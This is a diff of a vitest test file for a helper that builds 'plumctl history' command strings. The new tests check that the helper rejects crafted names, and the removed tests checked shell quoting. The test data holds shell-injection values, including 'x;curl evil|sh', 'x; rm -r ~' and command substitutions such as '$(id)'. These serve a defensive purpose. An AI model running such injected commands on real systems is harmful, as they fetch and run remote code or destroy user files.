@@ -1,16 +1,25 @@
 import { expect, it } from "vitest"
-import { historyCommand, quoted } from "./commands"
+import { historyCommand } from "./commands"
 
-it("puts a text into a command as one word", () => {
-  expect(quoted("http://a/v1?b=c")).toBe("'http://a/v1?b=c'")
-  expect(quoted("it's")).toBe("'it'\\''s'")
-  expect(quoted("web-1.2")).toBe("web-1.2")
+it("names what is asked for, and its namespace where it is not the usual one", () => {
+  expect(historyCommand("node", "fra1.web-01")).toBe("plumctl history node/fra1.web-01")
+  expect(historyCommand("assignment", "web-1", "team")).toBe("plumctl history assignment/web-1 -n team")
 })
 
-it("lets no name do anything of its own", () => {
-  expect(historyCommand("assignment", "web-main-abc", "staging")).toBe(
-    "plumctl history assignment/web-main-abc -n staging",
-  )
-  expect(historyCommand("node", "x; rm -r ~")).toBe("plumctl history 'node/x; rm -r ~'")
-  expect(historyCommand("assignment", "a", "$(b)")).toBe("plumctl history assignment/a -n '$(b)'")
+it("offers nothing that a crafted address put together", () => {
+  for (const name of [
+    "x;curl evil|sh",
+    "x$(id)",
+    "x`id`",
+    "x y",
+    "x\ny",
+    "-rf",
+    "X",
+    "",
+    "x'",
+    "a".repeat(300),
+  ]) {
+    expect(historyCommand("node", name)).toBeUndefined()
+    expect(historyCommand("assignment", "web-1", name)).toBeUndefined()
+  }
 })
